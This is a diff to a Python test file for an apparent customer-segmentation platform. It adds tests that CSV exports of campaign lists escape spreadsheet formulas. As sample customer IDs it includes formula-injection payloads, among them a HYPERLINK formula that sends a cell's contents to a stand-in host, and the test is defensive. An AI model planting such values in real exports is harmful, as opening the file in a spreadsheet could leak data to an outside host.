@@ -15,6 +15,7 @@ import duckdb
 import pytest
 
 from rfm_platform.customers.audience import AudienceError
+from rfm_platform.customers.campaign_lists import read_customers
 from rfm_platform.customers.segments import Segments
 from rfm_platform.warehouse import Publication
 from rfm_platform_tests.customers.conftest import SEGMENTS, Chain, line
@@ -31,6 +32,17 @@ LINES = [
     for n in range(20)
     for day in (10 + n,)
 ]
+
+
+# What a spreadsheet runs, or takes away; and what only looks as if it had been written here.
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&B3,"see")',
+    *("+62811", "-x", "@SUM(1)", "\t=1", "\r=1", "'=1", "'x"),
+]
+LINES += [line("2024-01-15 10:00", who, f"f{n}", 500) for n, who in enumerate(FORMULAS)]
+
+
+TEXTS = ("segment", "marketplace", "action", "purpose", "by")
 
 
 @pytest.fixture(scope="module")
@@ -65,6 +77,32 @@ def _wanted(chain: Chain, segment: str, marketplace: str | None) -> set[tuple[st
     }
 
 
+def _raw(text: str) -> str:
+    return text[1:] if text.startswith("'") and text.lstrip("'")[:1] in set("=+-@\t\r\n") else text
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_no_text_of_a_csv_is_a_formula_and_a_campaigns_list_has_the_customers_again(
+    scored: Chain, tmp_path: Path, suffix: str
+) -> None:
+    path = tmp_path / f"a{suffix}"
+    wanted = set()
+    for segment in {row["segment"] for row in scored.tables(DAY)["rfm_scores_snapshots"]}:
+        _export(scored, path, segment=segment)
+        if suffix == ".csv":
+            with path.open(encoding="utf-8", newline="") as file:
+                texts = [text for row in csv.reader(file) for text in row]
+            assert not [text for text in texts if text.startswith(tuple("=+-@\t\r\n"))]
+        with scored.platform.engine.session() as session:
+            read_customers(session, "A", path)
+            found = {*session.rows("SELECT marketplace, user_id FROM campaign_file")}
+        assert found == _wanted(scored, segment, None)
+        wanted |= {user_id for _, user_id in found}
+        for written in tmp_path.iterdir():
+            written.unlink()
+    assert wanted >= {*FORMULAS}, "not every one was exported, so this shows too little"
+
+
 @pytest.mark.parametrize("marketplace", [None, "shopee"])
 @pytest.mark.parametrize("suffix", [".csv", ".parquet"])
 def test_the_file_holds_exactly_the_segments_customers(
@@ -79,7 +117,7 @@ def test_the_file_holds_exactly_the_segments_customers(
     receipt = _export(scored, path, segment=segment, marketplace=marketplace)
     if suffix == ".csv":
         with path.open(encoding="utf-8", newline="") as file:
-            found = [(row["marketplace"], row["user_id"]) for row in csv.DictReader(file)]
+            found = [(row["marketplace"], _raw(row["user_id"])) for row in csv.DictReader(file)]
     else:
         found = duckdb.read_parquet(str(path)).project("marketplace, user_id").fetchall()
     assert len(found) == len({*found}) == receipt["customers"]
@@ -110,6 +148,7 @@ def test_the_receipt_says_who_when_how_many_of_which_snapshot_and_why(
         ({"segment": "Whales"}, "There is no segment Whales"),
         ({"marketplace": "nowhere"}, "no customer on nowhere"),
         ({"purpose": "  "}, "--purpose"),
+        *(({name: "a\udcff"}, f"^{name} is no UTF-8 text") for name in TEXTS),
         ({"as_of": dt.date(2023, 1, 1)}, "no snapshot of 2023-01-01"),
     ],
 )
